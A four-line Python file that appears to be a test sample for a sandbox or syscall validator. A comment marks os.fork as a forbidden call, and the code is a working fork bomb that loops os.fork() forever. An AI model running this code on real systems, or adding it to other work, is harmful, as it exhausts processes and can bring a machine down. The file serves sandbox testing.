# Python fork bomb: os.fork is clone without CLONE_THREAD, a forbidden call (SV).
import os
while True:
    os.fork()
